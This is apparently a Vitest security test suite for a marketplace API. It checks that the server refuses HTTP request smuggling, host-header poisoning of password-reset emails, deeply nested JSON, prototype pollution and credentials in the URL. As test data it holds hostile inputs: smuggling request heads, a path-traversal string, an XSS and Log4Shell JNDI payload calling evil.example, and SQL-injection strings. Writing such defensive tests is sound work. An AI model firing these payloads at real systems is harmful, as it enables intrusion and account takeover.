import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { rawRequest, statusesOf } from '../harness/raw-requests.ts';
import { newestMail } from '../harness/sent-mails.ts';
import { startMarketplace, type TestMarketplace } from '../harness/start-marketplace.ts';

let market: TestMarketplace;
beforeAll(async () => {
  market = await startMarketplace();
});
afterAll(() => market.close());

const head = (lines: readonly string[]) => `${lines.join('\r\n')}\r\n\r\n`;
const healthLines = (...more: string[]) => ['GET /api/v1/health HTTP/1.1', 'Host: localhost', ...more];

describe('a request that two servers could read differently', () => {
  const login = 'POST /api/v1/auth/login HTTP/1.1';
  const hidden = 'GET /api/v1/health HTTP/1.1\r\nHost: localhost\r\n\r\n';
  test.each([
    [
      'length and chunks at once',
      [login, 'Host: localhost', `Content-Length: ${hidden.length + 5}`, 'Transfer-Encoding: chunked'],
    ],
    ['two lengths', [login, 'Host: localhost', 'Content-Length: 5', 'Content-Length: 0']],
    ['a disguised transfer encoding', [login, 'Host: localhost', 'Content-Length: 5', 'Transfer-Encoding: xchunked']],
    ['a blank before the colon', [login, 'Host: localhost', 'Content-Length : 5', 'Transfer-Encoding: chunked']],
    ['a length with a sign', [login, 'Host: localhost', 'Content-Length: +5']],
    ['two hosts', ['GET /api/v1/health HTTP/1.1', 'Host: localhost', 'Host: evil.example']],
    ['no host', ['GET /api/v1/health HTTP/1.1']],
    ['a folded header', ['GET /api/v1/health HTTP/1.1', 'Host: localhost', 'X-A: b', ' Transfer-Encoding: chunked']],
  ] as const)('%s: is refused, and nothing after it is read as another request', async (_what, lines) => {
    const answer = await rawRequest(market.url, `${head(lines)}0\r\n\r\n${hidden}`);
    expect(statusesOf(answer)).toEqual([400]);
  });

  test('a header without an end is refused', async () => {
    const answer = await rawRequest(market.url, head(healthLines(`X-Long: ${'a'.repeat(40_000)}`)));
    expect(statusesOf(answer)).toEqual([431]);
  });

  test('an ordinary request is answered', async () => {
    expect(statusesOf(await rawRequest(market.url, head(healthLines('Connection: close'))))).toEqual([200]);
  });
});

describe('hostile header values', () => {
  test.each([
    ['Accept-Language', '../../../etc/passwd'],
    ['User-Agent', '<script>alert(1)</script>${jndi:ldap://evil.example}'],
    ['X-Request-Id', `bad id ${'x'.repeat(300)}`],
    ['X-Forwarded-For', "127.0.0.1' OR 1=1 --"],
    ['X-Forwarded-Host', 'evil.example'],
    ['X-HTTP-Method-Override', 'DELETE'],
    ['Idempotency-Key', `${'k'.repeat(5_000)}`],
    ['If-None-Match', '"evil.example"'],
    ['Content-Encoding', 'gzip'],
    ['Authorization', `Bearer ${'a.'.repeat(2_000)}`],
    ['Authorization', 'Basic YWRtaW46YWRtaW4='],
    ['X-Api-Key', "svc_live_' OR '1'='1"],
    ['X-Api-Key', '\u00FF\u00FE'],
    ['Cookie', 'session=admin; accessToken=admin'],
  ])('%s: %s', async (name, value) => {
    for (const [method, path] of [
      ['GET', '/api/v1/users/me'],
      ['POST', '/api/v1/bookings'],
    ] as const) {
      const answer = await fetch(market.url + path, {
        method,
        headers: { [name]: value, 'Content-Type': 'application/json' },
        body: method === 'POST' ? '{"slug":"tandem-sea-kayak"}' : undefined,
      });
      const text = await answer.text();
      expect([path, answer.status]).toEqual([path, 401]);
      expect(text).not.toContain('evil.example');
      expect([...answer.headers.values()].join('\n')).not.toContain(value);
    }
  });

  test('a method in a header or in a field does not replace the method of the request', async () => {
    const answer = await market.renter.http.post('/users/me?_method=DELETE', {}, { 'X-HTTP-Method-Override': 'DELETE' });
    expect(answer.status).toBe(404);
    expect((await market.renter.http.get('/users/me')).status).toBe(200);
  });
});

test('a foreign Host or X-Forwarded-Host appears in no link of a page, an answer or an e-mail', async () => {
  const body = JSON.stringify({ email: 'beatriz@demo.test' });
  for (const [index, host] of ['evil.example', 'localhost@evil.example', 'evil.example:80'].entries()) {
    const answer = await rawRequest(
      market.url,
      `${head([
        'POST /api/v1/auth/forgot-password HTTP/1.1',
        `Host: ${host}`,
        `X-Forwarded-Host: ${host}`,
        'X-Forwarded-Proto: https',
        `Forwarded: host=${host}`,
        'Content-Type: application/json',
        `Content-Length: ${body.length}`,
        'Connection: close',
      ])}${body}`,
    );
    expect(answer).not.toContain('evil.example');
    // What the server takes it answers as ever; what it refuses sends nothing.
    if (statusesOf(answer)[0] !== 200) continue;
    expect(index).toBeLessThan(3);
    const { text } = await newestMail(market, 'beatriz@demo.test', 'Choose a new password');
    expect(text).toContain(`${market.url}/reset-password?token=`);
    expect(text).not.toContain('evil.example');
  }
  for (const path of ['/', '/llms.txt', '/link', '/.well-known/mcp.json', '/api/v1/health']) {
    const shown = await rawRequest(
      market.url,
      head([`GET ${path} HTTP/1.1`, 'Host: evil.example', 'X-Forwarded-Host: evil.example', 'Connection: close']),
    );
    expect([path, shown.includes('evil.example')]).toEqual([path, false]);
  }
});

describe('a body that is too much', () => {
  const post = (path: string, body: string) =>
    fetch(market.url + path, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body });

  test('oversized JSON is refused before it is parsed', async () => {
    const big = JSON.stringify({ email: 'a@b.example', password: 'x'.repeat(300_000) });
    expect((await post('/api/v1/auth/login', big)).status).toBe(400);
  });

  test.each([
    ['arrays', '['.repeat(100_000) + ']'.repeat(100_000)],
    ['objects', '{"a":'.repeat(40_000) + '1' + '}'.repeat(40_000)],
    ['objects in a field', `{"email":${'{"a":'.repeat(30_000)}1${'}'.repeat(30_000)},"password":"x"}`],
    ['arrays in a field', `{"email":"a@b.example","password":${'['.repeat(100_000)}${']'.repeat(100_000)}}`],
  ])('deeply nested %s are refused as bad input, and the server goes on', async (_what, body) => {
    for (const path of ['/api/v1/auth/login', '/api/v1/bookings', '/api/v1/mcp']) {
      const answer = await post(path, body);
      expect([path, answer.status >= 400 && answer.status < 500]).toEqual([path, true]);
    }
    expect((await market.nobody.http.get('/health')).status).toBe(200);
  });

  test.each(['__proto__', 'constructor', 'prototype'])('a field named %s changes no prototype', async (name) => {
    const body = `{"email":"a@b.example","password":"x","${name}":{"role":"ADMIN","isAdmin":true}}`;
    const answer = await post('/api/v1/auth/login', body);
    expect([400, 401]).toContain(answer.status);
    expect(({} as Record<string, unknown>)['isAdmin']).toBeUndefined();
  });
});

test('a key or a token in the address signs nobody in', async () => {
  const { secret } = await market.renter.call('manage_api_keys', { action: 'create', name: 'in the address' });
  const token = market.renter.credential ?? '';
  expect((await market.actor(secret).http.get('/bookings')).status).toBe(200);
  for (const name of ['apiKey', 'api_key', 'key', 'access_token', 'accessToken', 'token', 'X-Api-Key', 'authorization']) {
    for (const value of [secret, token]) {
      expect([name, (await market.nobody.http.get(`/bookings?${name}=${value}`)).status]).toEqual([name, 401]);
      const open = await market.nobody.http.get(`/search?${name}=${value}`);
      expect([name, open.status >= 400, JSON.stringify(open.body).includes(value)]).toEqual([name, true, false]);
    }
  }
});
